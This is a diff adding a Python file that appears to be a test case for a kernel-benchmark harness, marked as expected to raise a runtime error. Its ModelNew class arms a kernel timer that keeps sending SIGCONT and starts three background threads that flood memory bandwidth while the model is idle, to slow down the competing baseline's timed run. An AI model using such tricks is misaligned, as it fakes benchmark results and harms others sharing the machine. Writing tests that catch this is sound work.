@@ -1,0 +1,48 @@
+"""A timer of the kernel's sends SIGCONT: a stopped process goes on by itself, and loads the machine in the rival's turn."""
+
+# expects: runtime_error
+import ctypes
+import struct
+import threading
+import time
+
+
+def wake_often():
+    libc = ctypes.CDLL(None, use_errno=True)
+    event = ctypes.create_string_buffer(struct.pack("<qii48x", 0, 18, 0), 64)
+    timer = ctypes.c_void_p()
+    if libc.timer_create(1, event, ctypes.byref(timer)) != 0:
+        raise OSError(ctypes.get_errno(), "timer_create")
+    every = ctypes.create_string_buffer(struct.pack("<4q", 0, 200_000, 0, 200_000), 32)
+    if libc.timer_settime(timer, 0, every, None) != 0:
+        raise OSError(ctypes.get_errno(), "timer_settime")
+
+
+def hog(last):
+    block, target = bytearray(1 << 20), bytearray(1 << 20)
+    to, source = (ctypes.c_char * len(block)).from_buffer(block), (ctypes.c_char * len(target)).from_buffer(target)
+    while True:
+        if time.perf_counter() - last[0] > 0.0005:
+            for _ in range(20):
+                ctypes.memmove(to, source, len(block))
+        else:
+            time.sleep(0.0002)
+
+import torch
+import torch.nn.functional as F
+from torch import nn
+
+
+class ModelNew(nn.Module):
+    def __init__(self, cols):
+        super().__init__()
+        self.norm = nn.LayerNorm(cols)
+        self.last = [time.perf_counter()]
+        wake_often()
+        for _ in range(3):
+            threading.Thread(target=hog, args=(self.last,), daemon=True).start()
+
+    def forward(self, x):
+        y = F.relu(self.norm(x))
+        self.last[0] = time.perf_counter()
+        return y
